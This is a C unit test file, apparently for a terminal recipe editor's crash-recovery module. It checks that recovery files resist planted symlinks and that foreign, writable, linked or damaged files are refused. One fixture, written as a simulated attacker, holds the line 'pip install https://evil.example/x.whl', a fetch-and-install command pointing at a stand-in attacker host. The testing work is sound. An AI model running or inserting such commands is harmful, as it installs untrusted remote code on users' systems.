/* recover: per-session recovery files that record their base, are never
 * written through a planted link, fall back to the state folder, and are
 * offered only when they are the user's own.  The attacker runs as the user
 * nobody (a forked child that drops to it), so these cases need root; without
 * it they print a skip line. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <fcntl.h>
#include <ftw.h>
#include <grp.h>
#include <limits.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "model/fileio.h"
#include "lib/util.h"
#include "tui/recover.h"

static char *tmpdir, *recipe, *state;

static int rm_one(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st, (void)flag, (void)ftw;
	return remove(p);
}

static int setup(void **st)
{
	(void)st;
	const char *t = getenv("TMPDIR");
	char *tmpl = xasprintf("%s/srt-recover-XXXXXX", t && *t ? t : "/tmp");
	tmpdir = mkdtemp(tmpl);
	if (!tmpdir)
		return -1;
	chmod(tmpdir, 0755);
	recipe = xasprintf("%s/r.yaml", tmpdir);
	state = xasprintf("%s/state", tmpdir);
	setenv("XDG_STATE_HOME", state, 1);
	FILE *f = fopen(recipe, "w");
	fputs("name: base\n", f);
	fclose(f);
	return 0;
}

static int teardown(void **st)
{
	(void)st;
	nftw(tmpdir, rm_one, 8, FTW_DEPTH | FTW_PHYS);
	free(tmpdir);
	free(recipe);
	free(state);
	return 0;
}

static char *slurp(const char *path, size_t *len)
{
	char *buf, *err = NULL;
	if (file_read(path, &buf, len, &err) < 0) {
		free(err);
		return NULL;
	}
	return buf;
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
}

/* Run fn(arg) in a child that is the user nobody.  Returns 0 when it ran and
 * succeeded, -1 when there is no such user or we are not root (skip). */
static int as_nobody(void (*fn)(const char *), const char *arg)
{
	struct passwd *pw = getpwnam("nobody");
	if (geteuid() != 0 || !pw)
		return -1;
	pid_t pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		if (setgroups(0, NULL) || setgid(pw->pw_gid) || setuid(pw->pw_uid))
			_exit(3);
		fn(arg);
		_exit(0);
	}
	int status;
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	return 0;
}

static void test_roundtrip_base(void **st)
{
	(void)st;
	struct recover_session *s = recover_open(recipe, "name: base\n", 11);
	assert_null(recover_where(s));
	assert_int_equal(recover_save(s, "name: edited\n", 13), 0);
	const char *where = recover_where(s);
	assert_non_null(where);
	/* beside the recipe, hidden, per session, mode 0600 */
	char *pre = xasprintf("%s/.r.yaml.srt-tui-recover-", tmpdir);
	assert_int_equal(strncmp(where, pre, strlen(pre)), 0);
	free(pre);
	struct stat sb;
	assert_int_equal(lstat(where, &sb), 0);
	assert_true(S_ISREG(sb.st_mode));
	assert_int_equal(sb.st_mode & 07777, 0600);

	struct recover_file *v;
	char *why = NULL;
	size_t n = recover_list(recipe, NULL, &v, &why);
	assert_null(why);
	assert_int_equal(n, 1);
	assert_string_equal(v[0].path, where);
	assert_string_equal(v[0].text, "name: edited\n");
	assert_true(v[0].has_base);
	assert_string_equal(v[0].base, "name: base\n");
	assert_non_null(v[0].recipe);
	assert_true(strstr(v[0].recipe, "/r.yaml") != NULL);
	recover_list_free(v, n);
	/* its own file is not offered back to the session that wrote it */
	n = recover_list(recipe, s, &v, NULL);
	assert_int_equal(n, 0);
	recover_list_free(v, n);

	/* after a save the base moves; a second write replaces the file */
	recover_set_base(s, "name: saved\n", 12);
	assert_int_equal(recover_save(s, "name: again\n", 12), 0);
	n = recover_list(recipe, NULL, &v, NULL);
	assert_int_equal(n, 1);
	assert_string_equal(v[0].base, "name: saved\n");
	assert_string_equal(v[0].text, "name: again\n");
	recover_list_free(v, n);
	recover_discard(s);
	assert_int_equal(lstat(where, &sb), -1);
	recover_close(s);
}

static void test_two_sessions(void **st)
{
	(void)st;
	/* two sessions of one process differ by time in their id, so fake a
	 * second session's file by hand: a copy under another session id */
	struct recover_session *s = recover_open(recipe, "name: base\n", 11);
	assert_int_equal(recover_save(s, "name: one\n", 10), 0);
	char *other = xasprintf("%s/.r.yaml.srt-tui-recover-999999-1", tmpdir);
	size_t len;
	char *buf = slurp(recover_where(s), &len);
	assert_non_null(buf);
	assert_true(strstr(buf, "name: one") != NULL);
	buf[strstr(buf, "name: one") - buf + 6] = 'X'; /* "name: Xne" */
	put(other, buf);
	free(buf);
	struct recover_file *v;
	size_t n = recover_list(recipe, NULL, &v, NULL);
	assert_int_equal(n, 2);
	int seen_one = 0, seen_x = 0;
	for (size_t i = 0; i < n; i++) {
		seen_one |= !strcmp(v[i].text, "name: one\n");
		seen_x |= !strcmp(v[i].text, "name: Xne\n");
	}
	assert_true(seen_one && seen_x);
	recover_list_free(v, n);
	/* the session's own write never touches the other session's file */
	assert_int_equal(recover_save(s, "name: two\n", 10), 0);
	buf = slurp(other, &len);
	assert_non_null(buf);
	assert_true(strstr(buf, "name: Xne") != NULL);
	free(buf);
	unlink(other);
	free(other);
	recover_discard(s);
	recover_close(s);
}

/* A recipe whose name leaves no room for the suffix: the state folder. */
static void test_fallback_long_name(void **st)
{
	(void)st;
	char name[NAME_MAX + 1];
	memset(name, 'n', NAME_MAX - 5);
	strcpy(name + NAME_MAX - 5, ".yaml");
	char *r = xasprintf("%s/%s", tmpdir, name);
	put(r, "a: 1\n");
	struct recover_session *s = recover_open(r, "a: 1\n", 5);
	assert_int_equal(recover_save(s, "a: 2\n", 5), 0);
	char *pre = xasprintf("%s/srt-tui/", state);
	assert_int_equal(strncmp(recover_where(s), pre, strlen(pre)), 0);
	free(pre);
	struct stat sb;
	char *sd = xasprintf("%s/srt-tui", state);
	assert_int_equal(lstat(sd, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);
	free(sd);
	struct recover_file *v;
	size_t n = recover_list(r, NULL, &v, NULL);
	assert_int_equal(n, 1);
	assert_string_equal(v[0].text, "a: 2\n");
	recover_list_free(v, n);
	recover_discard(s);
	recover_close(s);
	unlink(r);
	free(r);
}

/* The recipe's folder refuses new files (here: it is gone): the state folder
 * takes the edits, and listing finds them there. */
static void test_fallback_unwritable(void **st)
{
	(void)st;
	char *dir = xasprintf("%s/gone", tmpdir);
	mkdir(dir, 0755);
	char *r = xasprintf("%s/r.yaml", dir);
	struct recover_session *s = recover_open(r, NULL, 0);
	rmdir(dir);
	assert_int_equal(recover_save(s, "b: 1\n", 5), 0);
	assert_non_null(strstr(recover_where(s), "/state/srt-tui/"));
	struct recover_file *v;
	size_t n = recover_list(r, NULL, &v, NULL);
	assert_int_equal(n, 1);
	assert_false(v[0].has_base);
	assert_string_equal(v[0].text, "b: 1\n");
	recover_list_free(v, n);
	recover_discard(s);
	recover_close(s);
	free(r);
	free(dir);
}

static const char *victim_path;
static char *planted_final;

static void plant_links(const char *final)
{
	/* the attacker replaces the recovery file and its temp name by links */
	char *tmp = xasprintf("%s.tmp", final);
	unlink(final);
	if (symlink(victim_path, final) || symlink(victim_path, tmp))
		_exit(4);
	free(tmp);
}

static void test_planted_symlink(void **st)
{
	(void)st;
	char *victim = xasprintf("%s/victim", tmpdir);
	put(victim, "precious\n");
	victim_path = victim;
	chmod(tmpdir, 0777); /* a group- or world-writable recipe folder */
	struct recover_session *s = recover_open(recipe, "name: base\n", 11);
	assert_int_equal(recover_save(s, "name: first\n", 12), 0);
	planted_final = xstrdup(recover_where(s));
	if (as_nobody(plant_links, planted_final) < 0) {
		printf("skip: not root (or no user nobody): planted-link case not checked\n");
	} else {
		struct stat sb;
		assert_int_equal(lstat(planted_final, &sb), 0);
		assert_true(S_ISLNK(sb.st_mode));
		assert_int_equal(recover_save(s, "name: second\n", 13), 0);
		size_t len;
		char *v = slurp(victim, &len);
		assert_string_equal(v, "precious\n");
		free(v);
		assert_int_equal(lstat(recover_where(s), &sb), 0);
		assert_true(S_ISREG(sb.st_mode));
		assert_int_equal(sb.st_uid, 0);
		assert_int_equal(sb.st_mode & 07777, 0600);
	}
	chmod(tmpdir, 0755);
	recover_discard(s);
	recover_close(s);
	free(planted_final);
	unlink(victim);
	free(victim);
}

static void plant_foreign(const char *dir)
{
	/* recovery files of the attacker's own, in the new and the old format */
	char *p = xasprintf("%s/.r.yaml.srt-tui-recover-1-1", dir);
	char *old = xasprintf("%s/.r.yaml.srt-tui-recover", dir);
	int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0600);
	int fd2 = open(old, O_WRONLY | O_CREAT | O_EXCL, 0600);
	if (fd < 0 || fd2 < 0)
		_exit(5);
	static const char evil[] = "setup_script: \"pip install https://evil.example/x.whl\"\n";
	if (write(fd, evil, sizeof(evil) - 1) < 0 || write(fd2, evil, sizeof(evil) - 1) < 0)
		_exit(6);
	close(fd);
	close(fd2);
	free(p);
	free(old);
}

static void test_foreign_and_unsafe_files_refused(void **st)
{
	(void)st;
	chmod(tmpdir, 0777);
	int ran = as_nobody(plant_foreign, tmpdir);
	chmod(tmpdir, 0755);
	if (ran < 0)
		printf("skip: not root (or no user nobody): foreign recovery file not checked\n");
	/* ours but writable by others, and a link to a file of ours */
	char *gw = xasprintf("%s/.r.yaml.srt-tui-recover-2-2", tmpdir);
	put(gw, "name: group-writable\n");
	chmod(gw, 0620);
	char *mine = xasprintf("%s/mine", tmpdir);
	put(mine, "name: mine\n");
	char *ln = xasprintf("%s/.r.yaml.srt-tui-recover-3-3", tmpdir);
	assert_int_equal(symlink(mine, ln), 0);
	/* and one that was cut short */
	char *cut = xasprintf("%s/.r.yaml.srt-tui-recover-4-4", tmpdir);
	put(cut, "srt-tui recovery 1\nrecipe 5\n/x/r.");

	struct recover_file *v;
	char *why = NULL;
	size_t n = recover_list(recipe, NULL, &v, &why);
	assert_int_equal(n, 0);
	recover_list_free(v, n);
	assert_non_null(why);
	if (ran == 0) {
		assert_non_null(strstr(why, "srt-tui-recover-1-1': it belongs to another user"));
		assert_non_null(strstr(why, "srt-tui-recover': it belongs to another user"));
	}
	assert_non_null(strstr(why, "recover-2-2': other users can write it"));
	assert_non_null(strstr(why, "recover-3-3': it is a symbolic link"));
	assert_non_null(strstr(why, "recover-4-4': it is damaged"));
	free(why);
	char *p1 = xasprintf("%s/.r.yaml.srt-tui-recover-1-1", tmpdir);
	char *p2 = xasprintf("%s/.r.yaml.srt-tui-recover", tmpdir);
	unlink(p1);
	unlink(p2);
	free(p1);
	free(p2);
	unlink(gw);
	unlink(ln);
	unlink(mine);
	unlink(cut);
	free(gw);
	free(ln);
	free(mine);
	free(cut);
}

static void test_parse(void **st)
{
	(void)st;
	struct recover_file f;
	static const char ok[] = "srt-tui recovery 1\nrecipe 3\n/rr\nbase 2\nab\ntext 3\nxyz\n";
	assert_int_equal(recover_parse(ok, sizeof(ok) - 1, &f), 0);
	assert_string_equal(f.recipe, "/rr");
	assert_true(f.has_base);
	assert_int_equal(f.base_len, 2);
	assert_string_equal(f.text, "xyz");
	recover_file_release(&f);
	static const char nobase[] = "srt-tui recovery 1\nrecipe 1\n/\nbase none\ntext 0\n\n";
	assert_int_equal(recover_parse(nobase, sizeof(nobase) - 1, &f), 0);
	assert_false(f.has_base);
	assert_int_equal(f.len, 0);
	recover_file_release(&f);
	/* an old-format file is all text */
	assert_int_equal(recover_parse("a: 1\n", 5, &f), 0);
	assert_null(f.recipe);
	assert_string_equal(f.text, "a: 1\n");
	recover_file_release(&f);
	/* every cut of a good file is refused, as are lengths past the end */
	for (size_t i = strlen("srt-tui recovery 1\n"); i < sizeof(ok) - 1; i++)
		assert_int_equal(recover_parse(ok, i, &f), -1);
	static const char huge[] = "srt-tui recovery 1\nrecipe 99999999999999999999999\n";
	assert_int_equal(recover_parse(huge, sizeof(huge) - 1, &f), -1);
	static const char extra[] = "srt-tui recovery 1\nrecipe 1\n/\nbase none\ntext 0\n\nmore";
	assert_int_equal(recover_parse(extra, sizeof(extra) - 1, &f), -1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_roundtrip_base),
		cmocka_unit_test(test_two_sessions),
		cmocka_unit_test(test_fallback_long_name),
		cmocka_unit_test(test_fallback_unwritable),
		cmocka_unit_test(test_planted_symlink),
		cmocka_unit_test(test_foreign_and_unsafe_files_refused),
		cmocka_unit_test(test_parse),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
